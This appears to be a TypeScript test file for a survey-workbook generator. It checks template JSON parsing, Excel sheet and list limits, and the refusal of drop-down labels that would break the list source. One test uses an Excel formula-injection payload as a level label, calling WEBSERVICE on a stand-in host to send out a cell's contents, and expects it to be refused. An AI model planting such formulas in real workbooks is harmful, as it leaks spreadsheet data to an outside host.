/**
 * Templates checked by a typed parser and by Excel's limits (issue 19, part 6): a JSON template's
 * fields by type, one problem naming the field's path; level labels that would break 调查数据's
 * drop-down list (its one string literal) refused with the reason; more items or levels than a sheet
 * or a list can hold refused before anything is built. And the plan's own list sources: one literal.
 */
import {
  CsatError,
  EXCEL_LIMITS,
  MAX_TEMPLATE_ITEMS,
  MAX_TEMPLATE_LEVELS,
  parseSavedMapping,
  parseTemplateJson,
  TABLE_4_1,
  templateFromGrid,
  validateTemplate,
  type CellValue,
  type Template,
  type TemplateSpec,
} from '../../src/domain';
import { buildResponsesSheet, buildSurveyWorkbook, listSource, parseCell, parseRange, type SheetPlan } from '../../src/plan';
import { XlsxGateway } from '../../src/host/xlsx/gateway';
import { generateSurveyWorkbook } from '../../src/jobs/survey';
import { reopen, validationAt } from '../helpers/xlsx';

/** The refusal's lines in both languages (the problems as every face words them). */
function refusal(fn: () => unknown): { zh: string[]; en: string[]; codes: string[] } {
  try {
    fn();
  } catch (e) {
    if (!(e instanceof CsatError)) throw e;
    return { zh: e.format('zh-CN').split('\n'), en: e.format('en-US').split('\n'), codes: e.problems.map((p) => `${p.code}@${p.cell ?? ''}`) };
  }
  throw new Error('not refused');
}

const twoItems = (levels: unknown[]) => ({ levels, items: [{ name: '甲', weight: 40 }, { name: '乙', weight: 60 }] });
const spec = (labels: string[]): TemplateSpec => ({ levels: labels.map((label, i) => ({ label, score: 100 - i * 10 })), items: [{ name: '甲', weight: 40 }, { name: '乙', weight: 60 }] });
const fromJson = (value: unknown) => validateTemplate(parseTemplateJson(value));

describe('a template JSON file, parsed by type', () => {
  it('levels:[null] is one line naming levels[0], not "Cannot read properties of null"', () => {
    const r = refusal(() => fromJson(twoItems([null])));
    expect(r.zh).toEqual(['levels[0]：应为对象 {"label": 名称, "score": 分值}，而不是 null']);
    expect(r.en).toEqual(['levels[0]: expected an object {"label": name, "score": score}, not null']);
  });

  it('names the field of a wrong type, a missing field and a misspelt one by its path', () => {
    const items = (i3: Record<string, unknown>) => ({ levels: [{ label: '好', score: 100 }], items: [1, 2, 3].map((k) => ({ name: `项${k}`, weight: 20 })).concat([i3 as never]) });
    expect(refusal(() => fromJson(items({ name: '项4', weight: true }))).zh).toEqual(['items[3].weight：应为数字（或写成文字的数字、百分比），而不是 true']);
    expect(refusal(() => fromJson(items({ name: '项4', weight: [40] }))).en).toEqual(['items[3].weight: expected a number (or a number or percentage written as text), not an array']);
    expect(refusal(() => fromJson(items({ name: '项4' }))).zh).toEqual(['items[3].weight：缺少此字段（应为数字（或写成文字的数字、百分比））']);
    expect(refusal(() => fromJson(items({ name: '项4', wieght: 40 }))).zh).toEqual(['items[3].wieght：未知的字段（此处可用：name, category, weight, aliases, question, scores）']);
    expect(refusal(() => fromJson(items({ name: { zh: '项4' }, weight: 40 }))).zh).toEqual(['items[3].name：应为文字或数字，而不是对象']);
    expect(refusal(() => fromJson(items({ name: '项4', weight: 40, aliases: ['a', null] }))).zh).toEqual(['items[3].aliases[1]：应为文字或数字，而不是 null']);
    expect(refusal(() => fromJson(items({ name: '项4', weight: 40, scores: [1, 2] }))).zh).toEqual(['items[3].scores：有 2 个分值，但模板只有 1 个满意度等级']);
    expect(refusal(() => fromJson({ levels: [{ label: '好' }], items: {} })).zh).toEqual(['items：应为数组（[…]），而不是对象']);
    expect(refusal(() => fromJson({ levels: [{ label: '好' }] })).zh).toEqual(['items：缺少此字段（应为数组（[…]））']);
    expect(refusal(() => fromJson({ ...twoItems([{ label: '好', score: 100 }]), target: { v: 0.9 } })).zh).toEqual(['target：应为数字（或写成文字的数字、百分比），而不是对象']);
  });

  it('refuses a file that is not an object at all', () => {
    expect(refusal(() => fromJson(null)).zh).toEqual(['文件内容应为对象（{…}），而不是 null']);
    expect(refusal(() => fromJson([])).en).toEqual(['The content should be an object ({…}), not an array']);
  });

  it('refuses 20,000 items before reading any: a sheet holds 16,384 columns, 调查数据 needs 16 besides the items', () => {
    const items = Array.from({ length: 20_000 }, (_, i) => ({ name: `项${i}`, weight: 100 / 20_000 }));
    const r = refusal(() => fromJson({ levels: [{ label: '好', score: 100 }], items }));
    expect(r.zh).toEqual(['items：评分项目有 20000 个，超过上限 16368 个（调查数据每个项目占一列，另有 16 列客户信息、意见与建议、来源编号和实时汇总，Excel 工作表最多 16,384 列）']);
    expect(r.en[0]).toMatch(/^items: 20000 items, over the limit of 16368 \(/);
    // The same refusal for a spec that did not come through the parser (validateTemplate checks it first).
    expect(refusal(() => validateTemplate({ levels: [{ label: '好', score: 100 }], items })).codes).toEqual(['template-too-many-items@items']);
    expect(MAX_TEMPLATE_ITEMS).toBe(16_368);
  });

  it('refuses more levels than a drop-down list can hold', () => {
    const levels = Array.from({ length: MAX_TEMPLATE_LEVELS + 1 }, (_, i) => ({ label: `L${i}`, score: i }));
    expect(refusal(() => fromJson({ ...twoItems([]), levels })).zh).toEqual([`levels：满意度等级有 ${MAX_TEMPLATE_LEVELS + 1} 个，超过上限 126 个（调查数据的下拉列表是各等级和"不适用"以逗号连接，Excel 限 255 个字符）`]);
    // 126 one-character labels fill the list exactly; the plan's error and prompt texts stay within Excel's 224 / 255.
    const most = fromJson({ ...twoItems([]), levels: Array.from({ length: MAX_TEMPLATE_LEVELS }, (_, i) => ({ label: String.fromCharCode(0x4e00 + i), score: i })) });
    const answers = buildSurveyWorkbook(most).plan.sheets.find((s) => s.owner === 'responses')!.validations!.find((v) => v.rule.kind === 'list' && v.rule.values.includes('不适用'))!;
    if (answers.rule.kind !== 'list') throw new Error('not a list');
    expect(listSource(answers.rule.values).length).toBe(EXCEL_LIMITS.listSource + 2);
    expect(answers.error.message.length).toBe(EXCEL_LIMITS.validationError);
    expect(answers.error.message.endsWith('…')).toBe(true);
    expect(answers.prompt!.message.length).toBeLessThanOrEqual(EXCEL_LIMITS.validationPrompt);
  });

  it('reads a good file as before (numbers as text, aliases, questions, $schema)', () => {
    const t = fromJson({ $schema: 'x', name: '两项', target: '92%', levels: [{ label: '好', score: '100' }, { label: 2, score: 0 }], items: [{ name: '甲', weight: '40', aliases: ['A', 7], question: ' 甲如何？ ' }, { name: '乙', category: null, weight: 60, scores: [null, -5] }] });
    expect(t.levels.map((l) => l.label)).toEqual(['好', '2']);
    expect(t.items.map((i) => [i.name, i.category, i.weight, i.aliases, i.question, i.scores])).toEqual([
      ['甲', '甲', 40, ['A', '7'], '甲如何？', [100, 0]],
      ['乙', '乙', 60, [], undefined, [100, -5]],
    ]);
    expect(t.target).toBeCloseTo(0.92, 12);
  });
});

describe('level labels that would break the drop-down list of 调查数据', () => {
  it('a label holding " is refused with the reason (the issue\'s WEBSERVICE payload)', () => {
    const r = refusal(() => validateTemplate(spec(['""&WEBSERVICE("http://x.example/"&A1)&"', '坏'])));
    expect(r.codes).toEqual(['template-level-label-char@levels[0].label']);
    expect(r.zh[0]).toBe('levels[0].label：满意度等级"""&WEBSERVICE("http://x.example/"&A1)&""含英文双引号 "，会截断调查数据下拉列表的来源（列表是一个用双引号括起的字符串）；请去掉或换成中文引号“”');
    expect(r.en[0]).toMatch(/^levels\[0\]\.label: level ".*" holds a double quote ", which would end the string literal/);
  });

  it('refuses , (a list splits there), a leading =, line breaks, and COUNTIF wildcards — each with its reason', () => {
    const faults = (label: string) => refusal(() => validateTemplate(spec(['好', label]))).zh[0];
    expect(faults('好,差')).toMatch(/^levels\[1\]\.label：满意度等级"好,差"含英文逗号 ,，下拉列表会在逗号处把它拆成两个选项/);
    expect(faults('=A1')).toMatch(/以 = 开头，下拉列表来源会被当作公式/);
    expect(faults('一\n般')).toBe('levels[1].label：满意度等级"一\\n般"含换行或其他控制字符，无法在下拉列表中显示；请去掉');
    expect(faults('满意*')).toMatch(/COUNTIF/);
    expect(faults('>5')).toMatch(/COUNTIF/);
    // Full-width punctuation is ordinary text.
    expect(validateTemplate(spec(['“好”', '好，但慢', '＝差'])).levels.map((l) => l.label)).toEqual(['“好”', '好，但慢', '＝差']);
  });

  it('refuses levels whose list (with 不适用) passes Excel\'s 255 characters, naming the levels', () => {
    const labels = Array.from({ length: 25 }, (_, i) => `等级${String(i).padStart(2, '0')}很长很长的名字`);
    const r = refusal(() => validateTemplate(spec(labels)));
    expect(r.zh).toEqual(['levels：满意度等级和"不适用"以逗号连接共 303 个字符，超过 Excel 下拉列表来源的上限 255 个字符；请缩短等级名称']);
  });

  it('in a workbook\'s 评分模板 the refusal names the label\'s cell', () => {
    const grid: CellValue[][] = [['项目', '甲', '乙'], ['调查项', '甲', '乙'], ['权重 (%)', 40, 60], ['好"', 100, 100], ['差', 0, 0]];
    expect(refusal(() => templateFromGrid(grid, { sheet: '评分模板', row: 3, col: 1 })).codes).toEqual(['template-level-label-char@评分模板!A6']);
  });

  it('the list source the plan writes is one literal: exactly two quotes, one value per choice', () => {
    const survey = buildSurveyWorkbook(TABLE_4_1).plan.sheets.find((s) => s.owner === 'responses')!;
    const answers = survey.validations!.find((v) => v.rule.kind === 'list' && v.rule.values.includes('满意'))!;
    if (answers.rule.kind !== 'list') throw new Error('not a list');
    expect(listSource(answers.rule.values)).toBe('"满意,较满意,一般,不满意,很不满意,不适用"');
    // Whatever the labels, a template either is refused or gives a list source that stays one literal.
    const alphabet = ['好', '"', ',', '=', '“', '，', ' ', 'A', '&', '('];
    let accepted = 0;
    for (let seed = 1; seed <= 300; seed++) {
      const labels = [0, 1, 2].map((k) => Array.from({ length: 1 + ((seed * (k + 3)) % 5) }, (_, j) => alphabet[(seed * 7 + k * 13 + j * 31) % alphabet.length]).join('') + k);
      let t: Template;
      try {
        t = validateTemplate(spec(labels));
      } catch (e) {
        expect(e).toBeInstanceOf(CsatError);
        continue;
      }
      accepted++;
      const sheet = buildResponsesSheet(t, '调查数据', { sheet: '评分模板', layout: { categoryRow: 3, itemRow: 4, weightRow: 5, labelCol: 1, levelRows: [6, 7, 8], itemCols: [2, 3] } }).sheet;
      const rule = sheet.validations!.find((v) => v.rule.kind === 'list' && v.rule.values.includes('不适用'))!.rule;
      if (rule.kind !== 'list') throw new Error('not a list');
      const literal = listSource(rule.values);
      expect(literal.split('"').length - 1).toBe(2);
      expect(literal.slice(1, -1).split(',')).toEqual([...t.levels.map((l) => l.label), '不适用']);
    }
    expect(accepted).toBeGreaterThan(10);
  });

  it('the file written holds that one literal as the 调查数据 answers\' formula1', async () => {
    const gw = XlsxGateway.empty();
    await generateSurveyWorkbook(gw, { template: validateTemplate(spec(['“好”', '差'])) });
    const v = await validationAt(await reopen(gw), '调查数据', 'G2');
    expect(v?.formula1).toBe('"“好”,差,不适用"');
  });

  it('the plan refuses to write a list that would break, even for a template that skipped validation', () => {
    const forged = { ...TABLE_4_1, levels: [{ label: '好"&A1&"', score: 100, uniform: true }] } as Template;
    expect(() => buildSurveyWorkbook(forged)).toThrow(/list source/);
    expect(() => listSource(['a,b'])).toThrow(/list source/);
    expect(() => listSource(['x'.repeat(256)])).toThrow(/over Excel's 255/);
  });
});

describe('items over what a sheet can hold', () => {
  /** The rightmost column a sheet plan touches (blocks, columns, validations, tables). */
  function lastColumn(sheet: SheetPlan): number {
    const cols: number[] = [];
    for (const b of sheet.blocks) cols.push(parseCell(b.at).col + Math.max(0, ...b.values.map((r) => r.length)) - 1);
    for (const c of sheet.columns ?? []) cols.push(c.col);
    for (const v of sheet.validations ?? []) for (const r of v.range.split(/[ ,]/)) cols.push(parseRange(r).end.col);
    for (const t of sheet.tables ?? []) cols.push(parseRange(t.range).end.col);
    return Math.max(...cols);
  }

  it(`${MAX_TEMPLATE_ITEMS} items fill 调查数据 to column XFD exactly; one more is refused`, () => {
    const n = MAX_TEMPLATE_ITEMS;
    const items = Array.from({ length: n }, (_, i) => ({ name: `项${i}`, weight: i === 0 ? 100 - (n - 1) / 256 : 1 / 256 }));
    const t = validateTemplate({ levels: [{ label: '好', score: 100 }, { label: '差', score: 0 }], items });
    const responses = buildSurveyWorkbook(t, { include: ['template', 'responses'] }).plan.sheets.find((s) => s.owner === 'responses')!;
    expect(lastColumn(responses)).toBe(EXCEL_LIMITS.columns);
    expect(refusal(() => validateTemplate({ levels: [{ label: '好', score: 100 }], items: [...items, { name: 'x', weight: 1 }] })).codes).toEqual(['template-too-many-items@items']);
  });

  it('refuses an item name that cannot name a table column: over 255 characters, or one of 调查数据\'s own columns', () => {
    const named = (name: string) => refusal(() => validateTemplate({ levels: [{ label: '好', score: 100 }], items: [{ name, weight: 40 }, { name: '乙', weight: 60 }] }));
    expect(named('长'.repeat(256)).zh).toEqual(['items[0].name：评分项目名称有 256 个字符，超过上限 255 个（它是调查数据表的列名，Excel 表格列名最多 255 个字符）']);
    expect(named('客户 名称').zh).toEqual(['items[0].name：评分项目"客户 名称"与调查数据的固定列同名（客户名称、客户分组、项目名称、调查方式、调查日期、调查人、意见与建议、来源编号），表格不能有两列同名']);
  });

  it('refuses a question or aliases over a cell\'s 32,767 characters, naming the field', () => {
    const r = refusal(() => validateTemplate({ levels: [{ label: '好', score: 100 }], items: [{ name: '甲', weight: 100, question: '问'.repeat(32_768), aliases: ['a'.repeat(20_000), 'b'.repeat(20_000)] }] }));
    expect(r.zh).toEqual(['items[0].question：文字有 32768 个字符，超过 Excel 单元格上限 32,767 个字符', 'items[0].aliases：文字有 40001 个字符，超过 Excel 单元格上限 32,767 个字符']);
  });
});

describe('a saved mapping, parsed by type', () => {
  it('null, an array and a number target are one problem naming the field', () => {
    expect(refusal(() => parseSavedMapping(null)).zh).toEqual(['文件内容应为对象 {"问题": "评分项目", …}，而不是 null']);
    expect(refusal(() => parseSavedMapping([])).en).toEqual(['The content should be an object {"question": "item", …}, not an array']);
    expect(refusal(() => parseSavedMapping({ q: 5 })).zh).toEqual(['["q"]：应为文字（评分项目或信息列的名称）或 null（不导入），而不是数字 5']);
    expect(refusal(() => parseSavedMapping({ q: 5 })).en).toEqual(['["q"]: expected text (an item or information column) or null (not imported), not the number 5']);
  });

  it('reads a saved mapping as saved (blank targets are "not imported")', () => {
    expect(parseSavedMapping({ '1. 技术水平': '专业技术', '2. 其他': null, '3. 空': ' ' })).toEqual({ '1. 技术水平': '专业技术', '2. 其他': null, '3. 空': null });
  });
});
